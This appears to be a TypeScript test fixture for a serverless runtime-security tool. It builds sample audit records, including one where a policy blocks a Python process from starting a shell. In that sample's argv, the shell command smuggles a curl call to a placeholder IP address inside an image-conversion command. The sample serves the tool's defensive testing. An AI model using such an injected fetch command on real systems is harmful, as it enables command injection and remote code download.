import { randomBytes } from 'node:crypto';
import type { AuditOf, ModelEntry } from '@ringfence/audit';
import type { FunctionIdentity } from '@ringfence/policy';

export const testFunction: FunctionIdentity = {
  cloud: 'aws',
  account: '123456789012',
  region: 'eu-west-1',
  name: 'convert',
  runtime: 'python3.12',
  arch: 'x86_64',
};

/** A process audit as the init sends it, with a new id and the present time, changed as the test wants. */
export const makeAudit = (changes: Partial<AuditOf<'process'>> = {}): AuditOf<'process'> => ({
  ringfence: 1,
  id: randomBytes(16).toString('hex'),
  time: new Date().toISOString(),
  type: 'process',
  effect: 'prevent',
  action: 'blocked',
  function: { ...testFunction, version: '$LATEST' },
  instance: '00112233445566aa',
  request: '8b3e0c4e-1f9a-4f83-9d0c-3a1a5c2b7d10',
  count: 1,
  message: 'python3.12 tried to start /bin/sh, which the policy does not allow',
  detail: {
    path: '/usr/bin/dash',
    requested: '/bin/sh',
    argv: ['sh', '-c', 'convert "$(curl http://198.51.100.7/x)" out.png'],
    pid: 14,
    caller: '/var/lang/bin/python3.12',
    call: 'execve',
    abi: 'x86_64',
    reason: 'no pattern of the rule allows it',
  },
  ...changes,
});

/** A line of a model as the init sends it, with a new id. */
export const makeModelLine = (
  entries: ModelEntry[],
  changes: Partial<AuditOf<'model'>['detail']> = {},
  instance = '00112233445566aa',
): AuditOf<'model'> => ({
  ...makeAudit({ instance }),
  type: 'model',
  effect: 'learn',
  action: 'reported',
  message: `learned: ${entries.length} things were used`,
  detail: {
    entries,
    invocations: 1,
    since: 1_790_000_000_000,
    task: '/var/task',
    runtime: '/var/runtime',
    ...changes,
  },
});
